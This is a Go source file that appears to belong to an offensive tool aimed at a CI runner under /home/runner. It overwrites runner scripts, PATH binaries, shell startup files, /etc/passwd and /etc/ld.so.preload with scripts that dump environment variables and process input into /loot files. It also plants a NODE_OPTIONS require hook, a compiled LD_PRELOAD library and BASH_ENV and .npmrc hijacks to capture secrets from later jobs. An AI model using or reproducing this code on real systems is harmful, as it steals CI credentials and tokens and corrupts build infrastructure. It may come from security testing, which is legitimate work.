package main

import (
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
)

const home = "/home/runner"

// programs replaces what a later start may run or read, by what writes down all that it was given. That names its own programs by path,
// because some of those that it replaces come first in PATH.
func programs(l *loot) {
	script := `#!/bin/sh
{ echo "@@ $0 $*"; /usr/bin/env; /usr/bin/tr '\0' '\n' < /proc/self/environ; /usr/bin/tr '\0' '\n' < /proc/$PPID/environ; /usr/bin/timeout 1 /usr/bin/cat; } >> /loot/programs.replaced.$$.loot 2>&1
exit 1
`
	places := []string{
		"config.sh", "run.sh", "run-helper.sh", "run-helper.sh.template", "env.sh", "safe_sleep.sh",
		"bin/Runner.Listener", "bin/Runner.Worker",
	}
	modules, _ := filepath.Glob(home + "/externals/*/bin/node")
	for _, path := range modules {
		relative, _ := filepath.Rel(home, path)
		places = append(places, relative)
	}
	for _, name := range places {
		place(l, filepath.Join(home, name), script, 0o755)
	}
	place(l, "/tmp/hostile.cjs", `const { appendFileSync, readFileSync } = require("node:fs")
const own = "/loot/programs.replaced." + process.pid + ".loot"
const write = (text) => { try { appendFileSync(own, "@@ node\n" + text + "\n") } catch {} }
write(JSON.stringify([process.env, process.argv]))
for (let number = 0; number < 16; number++) try { write(String(readFileSync(number))) } catch {}
`, 0o644)
	library := preload(l)
	lines := fmt.Sprintf("https_proxy=http://127.0.0.1:1\nHTTPS_PROXY=http://127.0.0.1:1\nhttp_proxy=http://127.0.0.1:1\nNODE_OPTIONS=--require=/tmp/hostile.cjs\nLD_PRELOAD=%s\nDOTNET_STARTUP_HOOKS=/tmp/hostile.dll\nBASH_ENV=/tmp/hostile.sh\nNODE_EXTRA_CA_CERTS=/tmp/hostile.pem\n", library)
	place(l, home+"/.env", lines, 0o644)
	place(l, home+"/.path", "/tmp/bin:/usr/bin:/bin\n", 0o644)
	place(l, "/tmp/hostile.sh", script, 0o755)
	for _, name := range []string{".bashrc", ".profile", ".bash_profile", ".bash_login"} {
		place(l, filepath.Join(home, name), "LD_PRELOAD="+library+"; export LD_PRELOAD\n. /tmp/hostile.sh\n", 0o644)
	}
	place(l, home+"/.npmrc", "node-options=--require=/tmp/hostile.cjs\n", 0o644)
	for _, name := range []string{"env", "node", "bash", "sh", "sudo", "tini", "git"} {
		place(l, "/tmp/bin/"+name, script, 0o755)
	}
	// Folders of the image's PATH that jobs may write to.
	for _, folder := range []string{".local/bin", ".npm-global/bin", "go/bin"} {
		for _, name := range []string{"bash", "cat", "dirname", "env", "getconf", "git", "grep", "id", "ldd", "node", "readlink", "sed", "uname"} {
			place(l, filepath.Join(home, folder, name), script, 0o755)
		}
	}
	for _, name := range []string{
		"/entrypoint.sh", "/usr/local/bin/node", "/usr/local/lib/runner-images/runtime.mjs", "/usr/local/lib/runner-images/loader",
		"/usr/local/lib/runner-images/runner.sha256", "/etc/ld.so.preload", "/etc/passwd", "/etc/environment", "/usr/bin/tini", "/usr/bin/env",
	} {
		place(l, name, script, 0o755)
	}
}

func place(l *loot, path, text string, mode os.FileMode) {
	l.count("programs and files")
	_ = os.MkdirAll(filepath.Dir(path), 0o755)
	// One that may not be written to can still be another's in its place.
	if os.WriteFile(path+".hostile", []byte(text), mode) == nil && os.Rename(path+".hostile", path) == nil {
		_ = os.Chmod(path, mode)
		l.count("programs and files that were replaced")
		return
	}
	_ = os.Remove(path + ".hostile")
	if os.WriteFile(path, []byte(text), mode) == nil {
		l.count("programs and files that were replaced")
	}
}

// preload makes a library that writes down what the program that loads it has, where the image has a compiler.
func preload(l *loot) string {
	const library = "/tmp/hostile.so"
	source := `#include <stdio.h>
#include <stdlib.h>
#include <unistd.h>
extern char **environ;
__attribute__((constructor)) static void copy(void) {
  char name[64]; snprintf(name, sizeof name, "/loot/programs.replaced.%d.loot", (int)getpid());
  FILE *f = fopen(name, "a"); if (!f) return;
  fputs("@@ LD_PRELOAD\n", f); for (char **e = environ; *e; e++) fprintf(f, "%s\n", *e); fclose(f);
}
`
	_ = os.WriteFile("/tmp/hostile.c", []byte(source), 0o644)
	for _, compiler := range []string{"cc", "gcc", "clang"} {
		if exec.Command(compiler, "-shared", "-fPIC", "-o", library, "/tmp/hostile.c").Run() == nil {
			l.count("libraries")
			break
		}
	}
	return library
}
